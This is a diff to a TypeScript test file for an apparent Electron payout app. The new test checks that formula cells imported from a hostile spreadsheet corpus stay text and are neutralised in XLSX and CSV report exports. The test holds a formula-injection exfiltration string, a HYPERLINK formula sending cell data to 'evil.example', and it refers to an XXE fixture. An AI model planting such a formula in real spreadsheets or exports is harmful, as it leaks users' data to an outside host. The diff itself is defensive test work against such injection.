@@ -2,10 +2,15 @@
  * Hostile and broken files (issue 7 §2): each gets a clear message naming what is wrong, in bounded
  * time and memory; never a crash or a hang. Built at test time into a temp dir (corpus.ts).
  */
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
+import * as XLSX from 'xlsx'
 import { afterAll, describe, expect, it } from 'vitest'
+import type { RunRow } from '../../../../../../../shared/domain/bulk-run'
+import { reportTable } from '../../../../../../../electron/main/services/bulk/run/run-report'
+import type { RunState } from '../../../../../../../electron/main/services/bulk/run/run-store'
+import { writeExportTable } from '../../../../../../../electron/main/services/export/table-export'
 import type { BulkFileError, BulkImportResult } from '../../../../../../../shared/domain/bulk'
 import { importFile } from '../../../../../../../electron/main/services/bulk/import/import-file'
 import {
@@ -17,7 +22,7 @@ import {
   wideHeader,
   zipNotWorkbook,
 } from '../../../../../../fixtures/sheets/corpus'
-import { HOSTILE_NAMES, isClearMessage, runReader } from '../../../../../hostile/hostile-corpus'
+import { HOSTILE_NAMES, hostileCorpusDir, isClearMessage, runReader } from '../../../../../hostile/hostile-corpus'
 import type { ReaderOutcome } from '../../../../../hostile/hostile-corpus'
 
 const dir = mkdtempSync(join(tmpdir(), 'payout-desk-hostile-'))
@@ -302,4 +307,39 @@ describe('the hostile corpus through the importer', () => {
     expect(outcomes.find((outcome) => outcome.name === 'formulas.xlsx')?.result).toContain('=HYPERLINK(')
     expect(outcomes.find((outcome) => outcome.name === 'xml-external-entity.xlsx')?.result).toContain('"&xxe;"')
   }, 1_000_000)
+})
+
+describe('formula cells of an imported sheet', () => {
+  it('stay text through the import and are neutralised in the run report, XLSX and CSV alike', async () => {
+    const corpus = hostileCorpusDir()
+    for (const name of ['formulas.xlsx', 'formulas.csv']) {
+      const result = (await importFile({ path: join(corpus, name) }, { currency: 'NGN' })) as BulkImportResult
+      const narrations = result.items.map((item) => item.narration)
+      expect(narrations).toContain('=HYPERLINK("http://evil.example/steal?d="&A2,"Click for details")')
+      const rows = result.items.map((item, index): RunRow => ({
+        index,
+        item,
+        excluded: false,
+        errors: [],
+        warnings: [],
+        resolution: 'not_needed' as RunRow['resolution'],
+        status: 'not_sent' as RunRow['status'],
+      }))
+      const table = reportTable({ id: 'BR-hostile', currency: 'NGN' } as RunState, rows)
+      const out = join(dir, `report-of-${name}`)
+      await writeExportTable(table, `${out}.xlsx`, 'xlsx')
+      await writeExportTable(table, `${out}.csv`, 'csv')
+      const book = XLSX.read(readFileSync(`${out}.xlsx`), { type: 'buffer', cellFormula: true })
+      const sheet = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet
+      const cells = Object.entries(sheet).filter(([ref]) => /^[A-Z]+\d+$/.test(ref)) as Array<[string, XLSX.CellObject]>
+      expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([])
+      const texts = cells.map(([, cell]) => String(cell.v))
+      for (const narration of narrations.filter((text) => /^[=+\-@]/.test(text))) {
+        expect(texts).toContain(`'${narration}`)
+        expect(texts).not.toContain(narration)
+      }
+      const csv = readFileSync(`${out}.csv`, 'utf8')
+      expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m)
+    }
+  })
 })
